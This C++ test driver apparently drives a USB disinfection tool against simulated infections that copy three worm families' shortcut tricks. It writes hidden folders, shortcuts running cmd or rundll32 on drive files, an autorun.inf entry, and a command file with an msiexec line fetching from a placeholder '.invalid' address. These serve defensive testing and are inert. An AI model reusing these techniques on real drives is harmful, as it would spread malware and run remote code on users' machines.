// Drives Varrex.exe on pen drives infected the way three shortcut worm
// families of recent years infect them. Their root shortcuts do not run a
// script beside them, as the older worms' did: they hand a file of the drive
// to a program of Windows (cmd, rundll32), so the harm is in what the
// shortcut's arguments name.
//
//   1. A cmd chain that opens a hiding folder and runs a program inside it,
//      as Phorpiex / Trik do (Check Point Research's analyses of the
//      worm's USB spreader): the user's files go into a hidden, system root
//      folder "_" beside the worm's "_\DeviceManager.exe", and a shortcut
//      named like the drive's label runs
//        %windir%\system32\cmd.exe /c start _ & _\DeviceManager.exe & exit
//      so the user sees the files while the worm runs again.
//   2. rundll32 loading a file of the drive's root, as Gamarue / Andromeda
//      does (Microsoft Security Intelligence's descriptions of
//      Worm:Win32/Gamarue): the user's files go into a hidden, system folder
//      whose name is one no-break space (U+00A0), the worm's DLL is the hidden
//      "~$WQQAS.FAT32" beside a hidden "desktop.ini", the shortcut runs
//        %windir%\system32\rundll32.exe ~$WQQAS.FAT32,_ldr@16 desktop.ini RET TLB
//      and an autorun.inf does the same with "open=".
//   3. cmd reading its commands from a file of the drive, as Raspberry Robin
//      does (Red Canary's and Microsoft's analyses): a shortcut "Fotos.lnk"
//      beside the user's visible folder "Fotos" runs
//        %windir%\system32\cmd.exe /RCmD<Uo.ICO
//      (the outer cmd starts a second one, which reads its commands from
//      the file), and the hidden "Uo.ICO" holds the commands (msiexec fetching the
//      worm from a web address, explorer opening the folder).
// Nothing written here can run: the "programs" are a few inert bytes and the
// web address is in the reserved ".invalid" domain.
//
//   vx_e2e_worm_families_driver --prepare N   infects E: as family N does
//   vx_e2e_worm_families_driver --run N       checks, disinfects and checks
//                                             E: again with Varrex.exe
//
// --prepare makes the drive's files through Windows (the shortcuts with the
// shell's own IShellLinkW and IPersistFile::Save, the attributes with
// SetFileAttributesW, as the worms set them) and writes plan-N.txt beside
// the driver: one line per file, tab-separated, "user" or "worm", its path
// on the drive before and its path after the disinfection, which
// run-worm-families-e2e.sh uses to compare the user's files byte for byte
// and to find the worm's files in the quarantine. --run presses the
// program's buttons in the family's language, reads the boxes and the log,
// and checks the drive through Windows between the runs.
//
// Every check prints one line; the exit code is 0 only when all passed.
#include <objbase.h>
#include <shlobj.h>
#include <shobjidl.h>
#include <windows.h>

#include <chrono>
#include <cstdio>
#include <string>
#include <vector>

#include "e2e_support.h"

namespace {

using namespace std::chrono_literals;
using namespace vx::e2e;

constexpr DWORD kHidden = FILE_ATTRIBUTE_HIDDEN | FILE_ATTRIBUTE_SYSTEM;
const std::wstring kRoot = L"E:\\";
const std::wstring kNoBreakSpace = L"\u00A0";

// A file the family leaves on the drive: where it is, what it holds and the
// attributes it gets. A user's file must be found after the disinfection
// (at `after`, relative to the root), a worm's file must be gone and kept
// in the quarantine (under `after`, the path the program deletes it at);
// anything else is only shown.
enum class Kind { User, Worm, Other };

struct DriveFile {
    std::wstring path;  // relative to the root
    std::string bytes;
    DWORD attributes;
    Kind kind;
    std::wstring after;
};

struct Shortcut {
    std::wstring name;  // relative to the root
    std::wstring target;
    std::wstring arguments;
    int icon;  // in shell32.dll: 3 a closed folder, 7 a removable drive
};

struct Family {
    int number;
    bool english;
    std::wstring hidingFolder;          // empty when the family hides nothing
    std::wstring shownFolder;           // the hiding folder as the log writes it
    std::wstring recovery;              // the folder the hiding folder becomes
    std::vector<std::wstring> folders;  // made before the files, in order
    std::vector<DriveFile> files;
    Shortcut shortcut;
    // The files the shortcut runs as code, as the check names them and as
    // the disinfection deletes them (after the hiding folder's rename).
    std::vector<std::wstring> wormFiles;
    std::vector<std::wstring> wormFilesAfter;
};

// Bytes that are no text: every byte value, a few times over.
std::string binaryBytes(const char* header, size_t size) {
    std::string bytes = header;
    for (size_t i = 0; bytes.size() < size; ++i) bytes += static_cast<char>((i * 7 + 3) & 0xFF);
    return bytes;
}

// "MZ", a PE signature where the header says, and zeros: shaped like a
// program or DLL, but with no header a loader takes and no code.
std::string inertProgram(size_t size) {
    std::string bytes(size, '\0');
    bytes[0] = 'M';
    bytes[1] = 'Z';
    bytes[0x3C] = 0x40;
    bytes.replace(0x40, 4, std::string("PE\0\0", 4));
    return bytes;
}

// The shortcut of families 1 and 2 bears the drive's label, as theirs do
// ("Removable Disk" on a drive without one).
std::wstring driveLabel() {
    wchar_t label[MAX_PATH + 1] = {};
    if (!::GetVolumeInformationW(kRoot.c_str(), label, MAX_PATH + 1, nullptr, nullptr, nullptr, nullptr, 0) ||
        !label[0])
        return L"Removable Disk";
    return label;
}

Family family(int number) {
    const std::wstring label = driveLabel();
    switch (number) {
        case 1:
            return Family{
                1,
                false,
                L"_",
                L"_",
                L"RECUPERADOS",
                {L"_", L"_\\Fotos", L"_\\Documentos"},
                {
                    {L"_\\Fotos\\praia.jpg", binaryBytes("\xFF\xD8\xFF\xE0", 3000), 0, Kind::User,
                     L"RECUPERADOS\\Fotos\\praia.jpg"},
                    {L"_\\Documentos\\Carta.txt", "Querida tia,\r\nObrigada pelo presente!\r\n", 0, Kind::User,
                     L"RECUPERADOS\\Documentos\\Carta.txt"},
                    {L"_\\Orçamento.xlsx", binaryBytes("PK\x03\x04", 1500), FILE_ATTRIBUTE_ARCHIVE, Kind::User,
                     L"RECUPERADOS\\Orçamento.xlsx"},
                    {L"_\\DeviceManager.exe", inertProgram(2048), kHidden, Kind::Worm,
                     L"E:\\RECUPERADOS\\DeviceManager.exe"},
                },
                {label + L".lnk", L"%windir%\\system32\\cmd.exe", L"/c start _ & _\\DeviceManager.exe & exit", 7},
                {L"E:\\_\\DeviceManager.exe"},
                {L"E:\\RECUPERADOS\\DeviceManager.exe"},
            };
        case 2:
            return Family{
                2,
                true,
                kNoBreakSpace,
                L"[U+00A0]",
                L"RECOVERED",
                {kNoBreakSpace, kNoBreakSpace + L"\\Trabalho"},
                {
                    {kNoBreakSpace + L"\\Trabalho\\Relatório final.txt", "Relatório do semestre\r\n- capítulo 1\r\n", 0,
                     Kind::User, L"RECOVERED\\Trabalho\\Relatório final.txt"},
                    {kNoBreakSpace + L"\\Trabalho\\grafico.png", binaryBytes("\x89PNG\r\n\x1A\n", 2500), 0, Kind::User,
                     L"RECOVERED\\Trabalho\\grafico.png"},
                    {kNoBreakSpace + L"\\leia-me.txt", "anotações\r\n", FILE_ATTRIBUTE_READONLY, Kind::User,
                     L"RECOVERED\\leia-me.txt"},
                    {L"~$WQQAS.FAT32", inertProgram(4096), kHidden, Kind::Worm, L"E:\\~$WQQAS.FAT32"},
                    {L"desktop.ini", binaryBytes("\x13\x37", 96), kHidden, Kind::Other, L""},
                    {L"autorun.inf", "[AutoRun]\r\nopen=rundll32.exe ~$WQQAS.FAT32,_ldr@16\r\n", kHidden, Kind::Worm,
                     L"E:\\autorun.inf"},
                },
                {label + L".lnk", L"%windir%\\system32\\rundll32.exe", L"~$WQQAS.FAT32,_ldr@16 desktop.ini RET TLB", 7},
                {L"E:\\~$WQQAS.FAT32"},
                {L"E:\\~$WQQAS.FAT32"},
            };
        default:
            return Family{
                3,
                false,
                L"",
                L"",
                L"",
                {L"Fotos", L"Fotos\\Viagem"},
                {
                    {L"Fotos\\aniversario.jpg", binaryBytes("\xFF\xD8\xFF\xE1", 3500), 0, Kind::User,
                     L"Fotos\\aniversario.jpg"},
                    {L"Fotos\\Viagem\\roteiro.txt", "Dia 1: praia\r\nDia 2: serra\r\n", 0, Kind::User,
                     L"Fotos\\Viagem\\roteiro.txt"},
                    {L"Uo.ICO", "start /b msiexec /q /i http://example.invalid/x\r\nstart explorer \"Fotos\"\r\n",
                     kHidden, Kind::Worm, L"E:\\Uo.ICO"},
                },
                {L"Fotos.lnk", L"%windir%\\system32\\cmd.exe", L"/RCmD<Uo.ICO", 3},
                {L"E:\\Uo.ICO"},
                {L"E:\\Uo.ICO"},
            };
    }
}

DWORD attributesOf(const std::wstring& path) { return ::GetFileAttributesW(path.c_str()); }
bool exists(const std::wstring& path) { return attributesOf(path) != INVALID_FILE_ATTRIBUTES; }
bool visible(const std::wstring& path) {
    const DWORD a = attributesOf(path);
    return a != INVALID_FILE_ATTRIBUTES && (a & kHidden) == 0;
}

bool writeFile(const std::wstring& path, const std::string& bytes, DWORD attributes) {
    HANDLE h = ::CreateFileW(path.c_str(), GENERIC_WRITE, 0, nullptr, CREATE_NEW, FILE_ATTRIBUTE_NORMAL, nullptr);
    if (h == INVALID_HANDLE_VALUE) return false;
    DWORD written = 0;
    const bool ok =
        ::WriteFile(h, bytes.data(), static_cast<DWORD>(bytes.size()), &written, nullptr) && written == bytes.size();
    ::CloseHandle(h);
    return ok && (attributes == 0 || ::SetFileAttributesW(path.c_str(), attributes));
}

// Gives the shortcut the target as written, with its %variables%, in the
// environment-variable block Windows writes when SetPath is given such a
// path. Wine's SetPath resolves the unexpanded text against the current
// folder instead ("C:\vxtest\%windir%\..."), so the link's local path is set
// to the expanded target, as Windows sets it. False when the shell takes no
// such block (the shortcut then holds the expanded path only).
bool addVariableTarget(IShellLinkW* link, const std::wstring& target) {
    IShellLinkDataList* list = nullptr;
    if (FAILED(link->QueryInterface(IID_IShellLinkDataList, reinterpret_cast<void**>(&list)))) return false;
    EXP_SZ_LINK block{};
    block.cbSize = sizeof block;
    block.dwSignature = EXP_SZ_LINK_SIG;
    ::WideCharToMultiByte(CP_ACP, 0, target.c_str(), -1, block.szTarget, MAX_PATH, nullptr, nullptr);
    ::lstrcpynW(block.swzTarget, target.c_str(), MAX_PATH);
    DWORD flags = 0;
    const bool ok = SUCCEEDED(list->AddDataBlock(&block)) && SUCCEEDED(list->GetFlags(&flags)) &&
                    SUCCEEDED(list->SetFlags(flags | SLDF_HAS_EXP_SZ));
    list->Release();
    return ok;
}

// Makes the shortcut through the shell, as the worms make theirs, and reads
// it back through the shell: the arguments must be what was given.
bool makeShortcut(const Shortcut& s) {
    const std::wstring path = kRoot + s.name;
    IShellLinkW* link = nullptr;
    if (FAILED(::CoCreateInstance(CLSID_ShellLink, nullptr, CLSCTX_INPROC_SERVER, IID_IShellLinkW,
                                  reinterpret_cast<void**>(&link))))
        return false;
    wchar_t expanded[MAX_PATH] = {};
    ::ExpandEnvironmentStringsW(s.target.c_str(), expanded, MAX_PATH);
    bool ok = SUCCEEDED(link->SetPath(expanded));
    if (ok && !addVariableTarget(link, s.target))
        std::printf("    note: the shell takes no environment-variable block; %s holds \"%s\" only\n",
                    narrow(path).c_str(), narrow(expanded).c_str());
    ok = ok && SUCCEEDED(link->SetArguments(s.arguments.c_str())) &&
         SUCCEEDED(link->SetIconLocation(L"%SystemRoot%\\system32\\shell32.dll", s.icon)) &&
         SUCCEEDED(link->SetShowCmd(SW_SHOWMINNOACTIVE));
    IPersistFile* file = nullptr;
    ok = ok && SUCCEEDED(link->QueryInterface(IID_IPersistFile, reinterpret_cast<void**>(&file))) &&
         SUCCEEDED(file->Save(path.c_str(), TRUE));
    if (file) file->Release();
    link->Release();
    if (!ok) return false;

    link = nullptr;
    file = nullptr;
    wchar_t target[MAX_PATH] = {}, arguments[1024] = {};
    ok = SUCCEEDED(::CoCreateInstance(CLSID_ShellLink, nullptr, CLSCTX_INPROC_SERVER, IID_IShellLinkW,
                                      reinterpret_cast<void**>(&link))) &&
         SUCCEEDED(link->QueryInterface(IID_IPersistFile, reinterpret_cast<void**>(&file))) &&
         SUCCEEDED(file->Load(path.c_str(), STGM_READ)) &&
         SUCCEEDED(link->GetPath(target, MAX_PATH, nullptr, SLGP_RAWPATH)) &&
         SUCCEEDED(link->GetArguments(arguments, 1024));
    if (file) file->Release();
    if (link) link->Release();
    std::printf("    %s: the shell reads back \"%s\" \"%s\"\n", narrow(path).c_str(), narrow(target).c_str(),
                narrow(arguments).c_str());
    return ok && s.arguments == arguments;
}

// Infects E: as the family does and writes plan-N.txt beside the driver.
int prepare(const Family& f, const std::wstring& folder) {
    check(::GetDriveTypeW(kRoot.c_str()) == DRIVE_REMOVABLE, "E: is a removable drive");
    bool ok = true;
    for (const std::wstring& name : f.folders) ok = ok && ::CreateDirectoryW((kRoot + name).c_str(), nullptr);
    check(ok, "the folders are made");
    for (const DriveFile& file : f.files)
        check(writeFile(kRoot + file.path, file.bytes, file.attributes), "E:\\" + narrow(file.path) + " is written");
    check(makeShortcut(f.shortcut), "the shell saves and reads back E:\\" + narrow(f.shortcut.name));
    // The worm hides its folder last, once the user's files are in it.
    if (!f.hidingFolder.empty())
        check(::SetFileAttributesW((kRoot + f.hidingFolder).c_str(), FILE_ATTRIBUTE_DIRECTORY | kHidden) != FALSE,
              "the hiding folder is made hidden and system");
    for (const DriveFile& file : f.files)
        if (file.attributes & kHidden)
            check((attributesOf(kRoot + file.path) & kHidden) == kHidden,
                  "E:\\" + narrow(file.path) + " reads back hidden and system");
    if (!f.hidingFolder.empty())
        check((attributesOf(kRoot + f.hidingFolder) & kHidden) == kHidden, "the hiding folder reads back hidden");

    std::string plan;
    for (const DriveFile& file : f.files)
        if (file.kind != Kind::Other)
            plan += std::string(file.kind == Kind::User ? "user\t" : "worm\t") + narrow(file.path) + "\t" +
                    narrow(file.after) + "\n";
    plan += "worm\t" + narrow(f.shortcut.name) + "\tE:\\" + narrow(f.shortcut.name) + "\n";
    const std::wstring planPath = folder + L"\\plan-" + std::to_wstring(f.number) + L".txt";
    ::DeleteFileW(planPath.c_str());
    check(writeFile(planPath, plan, 0), "plan-" + std::to_string(f.number) + ".txt is written");
    return failures == 0 ? 0 : 1;
}

// --- the program's runs ------------------------------------------------------------

std::wstring selectedDrive(HWND list) {
    const LRESULT index = ::SendMessageW(list, CB_GETCURSEL, 0, 0);
    if (index == CB_ERR) return {};
    std::wstring text(static_cast<size_t>(::SendMessageW(list, CB_GETLBTEXTLEN, index, 0)) + 1, L'\0');
    ::SendMessageW(list, CB_GETLBTEXT, index, reinterpret_cast<LPARAM>(text.data()));
    text.resize(text.find(L'\0'));
    return text;
}

// Presses a button and reads the box the run ends with; the box is left up.
Box press(DWORD pid, HWND main, std::string_view button, const std::string& what) {
    ::PostMessageW(control(main, button), BM_CLICK, 0, 0);
    Box box = waitForBox(pid, main, 90s);
    check(box.hwnd != nullptr, what + " ends with a result box");
    return box;
}

// Closes the run's box, waits for the run to end and gives its log.
std::vector<std::wstring> finishRun(DWORD pid, HWND main, const Box& box, const std::string& what) {
    check(closeBox(box.hwnd), what + ": the box closes with OK");
    checkRunEnds(pid, main, what);
    std::vector<std::wstring> log = logOf(main);
    printLog(log, ("log of " + what).c_str());
    return log;
}

void checkBox(const Box& box, const std::wstring& caption, const std::wstring& text, const std::string& what) {
    checkText(box.caption, caption, what + ": box caption");
    checkText(box.text, text, what + ": box text");
}

// The first line at or after `from` that starts with `start`; log.size() when none does.
size_t findStart(const std::vector<std::wstring>& log, const std::wstring& start, size_t from = 0) {
    for (size_t i = from; i < log.size(); ++i)
        if (log[i].starts_with(start)) return i;
    return log.size();
}

size_t findLine(const std::vector<std::wstring>& log, const std::wstring& line, size_t from = 0) {
    for (size_t i = from; i < log.size(); ++i)
        if (log[i] == line) return i;
    return log.size();
}

// The language button, pressed as a user would; the captions show which
// language the window speaks now.
void chooseLanguage(HWND main, bool english) {
    ::SendMessageW(control(main, english ? "BitBtn14" : "BitBtn13"), BM_CLICK, 0, 0);
    const std::wstring caption = english ? L" Check &Device" : L" Verificar &Dispositivo";
    check(waitFor([&] { return textOf(control(main, "BitBtn9")) == caption; }, 5s),
          english ? "the program speaks English" : "the program speaks Portuguese",
          printable(textOf(control(main, "BitBtn9"))));
}

void turnReportsOff(HWND main) {
    HWND tabs = control(main, "PageControl1");
    selectTab(tabs, 2);
    waitFor([&] { return ::IsWindowVisible(control(main, "CheckBox1")) != FALSE; }, 5s);
    for (const char* name : {"CheckBox1", "CheckBox2"})
        if (isChecked(control(main, name))) ::SendMessageW(control(main, name), BM_CLICK, 0, 0);
    check(!isChecked(control(main, "CheckBox1")) && !isChecked(control(main, "CheckBox2")),
          "both report switches are off");
    selectTab(tabs, 0);
    check(waitFor([&] { return ::IsWindowVisible(control(main, "BitBtn9")) != FALSE; }, 5s), "back on the first tab");
}

// What the check found on the infected drive: what the shortcut runs, the
// worm's code it names and the folder it hides the files in.
void checkFindings(const Family& f, const std::vector<std::wstring>& log) {
    const bool en = f.english;
    const std::wstring autorun =
        f.number == 2 ? L"[VX] > Arquivo Autorun.inf encontrado!" : L"[VX] - Arquivo Autorun.inf não encontrado!";
    const std::wstring heading = en ? L"[VX] - >>> Checking what shortcuts and autorun.inf run..."
                                    : L"[VX] - >>> Verificando o que atalhos e autorun.inf executam...";
    const std::wstring shortcut = kRoot + f.shortcut.name;
    const std::wstring runsStart =
        (en ? L"[VX] - Shortcut " : L"[VX] - Atalho ") + shortcut + (en ? L" runs: " : L" executa: ");

    const size_t a = findLine(log, autorun);
    check(a < log.size(), "check: " + printable(autorun));
    const size_t h = findLine(log, heading, a);
    check(h < log.size() && h == a + 1, "check: the heading right after the autorun.inf line", printable(heading));
    const size_t s = findStart(log, runsStart, h);
    check(s < log.size(), "check: the shortcut's line follows the heading", printable(runsStart));
    if (s < log.size())
        check(log[s].ends_with(L" " + f.shortcut.arguments), "check: the shortcut's line ends with its arguments",
              printable(log[s]));

    for (const std::wstring& code : f.wormFiles) {
        const std::wstring start = (en ? L"[VX] > Virus code found: " : L"[VX] > Código do vírus encontrado: ") + code +
                                   (en ? L" (run by " : L" (executado por ");
        std::vector<std::wstring> runners;
        for (size_t i = findStart(log, start, h); i < log.size(); i = findStart(log, start, i + 1))
            runners.push_back(log[i].substr(start.size()));
        // Family 2's DLL is run by the shortcut and by autorun.inf: either may
        // be named, and no other file.
        bool named = !runners.empty();
        for (const std::wstring& r : runners)
            named = named && (r == shortcut + L")" || (f.number == 2 && r == L"E:\\autorun.inf)"));
        check(named, "check: the worm's code " + narrow(code) + " is found, run by the shortcut",
              runners.empty() ? "no line" : printable(runners.front()));
    }

    const std::wstring hidingStart = en ? L"[VX] > Folder " : L"[VX] > Pasta ";
    const std::wstring hidingEnd =
        en ? L" used by the virus to hide files." : L" usada pelo vírus para esconder arquivos.";
    std::vector<std::wstring> hiding;
    for (size_t i = h; i < log.size(); ++i)
        if (log[i].starts_with(hidingStart) && log[i].ends_with(hidingEnd)) hiding.push_back(log[i]);
    if (f.hidingFolder.empty()) {
        check(hiding.empty(), "check: no folder is said to hide files (the shortcut only opens E:\\Fotos)",
              hiding.empty() ? "" : printable(hiding.front()));
    } else {
        const std::wstring expected = hidingStart + kRoot + f.shownFolder + hidingEnd;
        check(hiding.size() == 1 && hiding.front() == expected, "check: " + printable(expected),
              hiding.empty() ? "no line" : printable(hiding.front()));
    }
}

void deviceCheck(const Family& f, DWORD pid, HWND main, const std::wstring& folder) {
    Box box = press(pid, main, "BitBtn9", "the device check");
    if (!box.hwnd) return;
    if (f.english)
        checkBox(box, L"Heads up", L"The device (E:\\) can be Infected!", "the device check");
    else
        checkBox(box, L"Atenção",
                 L"O Dispositivo (E:\\) está Infectado!\rPara remover use o botão \"Desinfectar Dispositivo\"",
                 "the device check");
    screenshot(folder, main, ("e2e-worm-family-" + std::to_string(f.number) + "-check").c_str());
    const std::vector<std::wstring> log = finishRun(pid, main, box, "the device check");
    checkFindings(f, log);
    if (!f.english)
        checkText(log.empty() ? L"" : log.back(),
                  L"[VX] *** O Dispositivo (E:\\) está Infectado! Para remover use o botão \"Desinfectar Dispositivo\"",
                  "check: the infected verdict is the last line");

    // The check changes nothing the family left.
    bool there = exists(kRoot + f.shortcut.name);
    for (const DriveFile& file : f.files) there = there && exists(kRoot + file.path);
    check(there, "the check leaves every file in place");
    if (!f.hidingFolder.empty()) check(!visible(kRoot + f.hidingFolder), "the check leaves the hiding folder hidden");
}

void deviceDisinfection(const Family& f, DWORD pid, HWND main) {
    const bool en = f.english;
    Box box = press(pid, main, "BitBtn1", "the device disinfection");
    if (!box.hwnd) return;
    checkBox(box, L"Heads up",
             en ? L"Virus Found and Deleted Drive E:\\!" : L"Vírus Encontrados na Unidade E:\\! Verifique o relatório!",
             "the device disinfection");
    const std::vector<std::wstring> log = finishRun(pid, main, box, "the device disinfection");

    std::vector<std::wstring> expected;
    expected.push_back(en ? L"[VX] - File and Folder Drive E:\\ placed in visible mode "
                          : L"[VX] - Pastas e arquivos do Drive E:\\ colocados em modo visível");
    if (!f.hidingFolder.empty()) {
        // The doubled backslash is the shape of the ".Trashes" lines.
        const std::wstring shown = L"E:\\\\" + f.shownFolder;
        expected.push_back(en ? L"[VX] > Folders " + shown + L" found." : L"[VX] > Pasta " + shown + L" encontrada.");
        expected.push_back(en ? L"[VX] > Folder " + shown + L" renamed E:\\" + f.recovery + L"."
                              : L"[VX] > Pasta " + shown + L" renomeada para E:\\" + f.recovery + L".");
    }
    // Right after the known worm folders, before the system folders.
    expected.push_back(en ? L"[VX] - Folder E:\\RECYCLE\\ not Found!" : L"[VX] - Pasta E:\\RECYCLE\\ não Encontrada!");
    expected.push_back(en ? L"[VX] > File E:\\" + f.shortcut.name + L" Successfully Deleted!"
                          : L"[VX] > Arquivo E:\\" + f.shortcut.name + L" Deletado com Sucesso!");
    if (f.number == 2) expected.push_back(L"[VX] > File \"autorun.inf\" deleted the Drive E:\\");
    expected.push_back(en ? L"[VX] - File \"bat.bat\" not found in the E:\\"
                          : L"[VX] - Arquivo \"bat.bat\" não encontrado no Drive E:\\");
    expected.push_back(en ? L"[VX] - >>> Removing what the shortcuts ran..."
                          : L"[VX] - >>> Removendo o que os atalhos executavam...");
    for (const std::wstring& code : f.wormFilesAfter)
        expected.push_back(en ? L"[VX] > File " + code + L" successfully deleted!"
                              : L"[VX] > Arquivo " + code + L" deletado com sucesso!");
    expected.push_back(en ? L"[VX] > Virus Found and Deleted Drive E:\\!"
                          : L"[VX] > Vírus Encontrados na Unidade E:\\! Verifique o relatório!");
    expected.push_back(en ? L"[VX] - Process Completed Successfully!" : L"[VX] - Processo Concluído com Sucesso!");
    checkLinesInOrder(log, expected, "disinfection");
    for (const wchar_t* bad : {L" não pôde ser deletado!", L" could not be deleted!", L" não pôde ser renomeada!",
                               L" could not be renamed!"}) {
        bool none = true;
        for (const std::wstring& line : log) none = none && !line.ends_with(bad);
        check(none, "disinfection: no line ends with \"" + narrow(bad) + "\"");
    }

    // The drive through Windows: the worm's files gone, the user's files
    // visible in a folder with a readable name.
    check(!exists(kRoot + f.shortcut.name), "E:\\" + narrow(f.shortcut.name) + " is gone");
    for (const DriveFile& file : f.files) {
        if (file.kind == Kind::User) {
            const std::wstring after = kRoot + file.after;
            check(visible(after), narrow(after) + " is there and visible",
                  "attributes " + std::to_string(attributesOf(after)));
        } else if (file.kind == Kind::Worm) {
            check(!exists(kRoot + file.path) && !exists(file.after), narrow(file.after) + " is gone");
        }
    }
    if (!f.hidingFolder.empty()) {
        check(!exists(kRoot + f.hidingFolder), "the hiding folder E:\\" + narrow(f.shownFolder) + " is gone");
        check(visible(kRoot + f.recovery), "E:\\" + narrow(f.recovery) + " is visible");
        for (const std::wstring& sub : f.folders)
            if (sub != f.hidingFolder)
                check(visible(kRoot + f.recovery + sub.substr(f.hidingFolder.size())),
                      "E:\\" + narrow(f.recovery + sub.substr(f.hidingFolder.size())) + " is visible");
    } else {
        for (const std::wstring& sub : f.folders)
            check(visible(kRoot + sub), "E:\\" + narrow(sub) + " is still there, visible");
        bool none = true;
        for (const std::wstring& line : log) none = none && line.find(L"E:\\\\Fotos") == std::wstring::npos;
        check(none, "disinfection: E:\\Fotos is no hiding folder");
    }
    if (f.number == 2 && exists(L"E:\\desktop.ini"))
        std::printf("    note: E:\\desktop.ini is still there (attributes %lu)\n", attributesOf(L"E:\\desktop.ini"));
}

// The disinfected drive, checked again in Portuguese: nothing runs any more.
void secondCheck(DWORD pid, HWND main) {
    Box box = press(pid, main, "BitBtn9", "the second device check");
    if (!box.hwnd) return;
    checkBox(box, L"Resultado", L"Não foram Encontrados Vírus no Drive E:\\!", "the second device check");
    const std::vector<std::wstring> log = finishRun(pid, main, box, "the second device check");
    checkLinesInOrder(log,
                      {
                          L"[VX] - Arquivo Autorun.inf não encontrado!",
                          L"[VX] - >>> Verificando o que atalhos e autorun.inf executam...",
                          L"[VX] - Nenhum atalho ou autorun.inf executa arquivos do dispositivo.",
                          L"[VX] *** Não foram Encontrados Vírus no Drive E:\\!",
                      },
                      "second check");
}

int run(const Family& f, const std::wstring& folder) {
    check(::GetDriveTypeW(kRoot.c_str()) == DRIVE_REMOVABLE, "E: is a removable drive");
    check(exists(kRoot + f.shortcut.name), "E: holds the family's shortcut " + narrow(f.shortcut.name));

    const Program varrex = startVarrex(folder);
    if (!varrex.main) return 1;
    for (const char* name : {"DriveComboBox2", "DriveComboBox1"}) {
        const std::wstring drive = selectedDrive(control(varrex.main, name));
        check(drive.starts_with(L"E:"), std::string(name) + " has E: selected", printable(drive));
    }
    turnReportsOff(varrex.main);
    chooseLanguage(varrex.main, f.english);

    deviceCheck(f, varrex.pid, varrex.main, folder);
    deviceDisinfection(f, varrex.pid, varrex.main);
    if (f.english) chooseLanguage(varrex.main, false);
    secondCheck(varrex.pid, varrex.main);

    closeVarrex(varrex);
    ::CloseHandle(varrex.process);
    return 0;
}

}  // namespace

int wmain(int argc, wchar_t** argv) {
    const auto started = std::chrono::steady_clock::now();
    const std::wstring mode = argc == 3 ? argv[1] : L"";
    const int number = argc == 3 ? _wtoi(argv[2]) : 0;
    if ((mode != L"--prepare" && mode != L"--run") || number < 1 || number > 3) {
        std::printf("usage: vx_e2e_worm_families_driver --prepare|--run 1|2|3\n");
        return 2;
    }
    if (FAILED(::CoInitializeEx(nullptr, COINIT_APARTMENTTHREADED))) {
        std::printf("FAIL COM does not start\n");
        return 1;
    }
    const Family f = family(number);
    const std::wstring folder = ownFolder();
    const std::string what = "worm family " + std::to_string(number) + (mode == L"--prepare" ? " prepare" : " run");
    if (mode == L"--prepare")
        prepare(f, folder);
    else
        run(f, folder);
    ::CoUninitialize();
    return finish(what.c_str(), started);
}
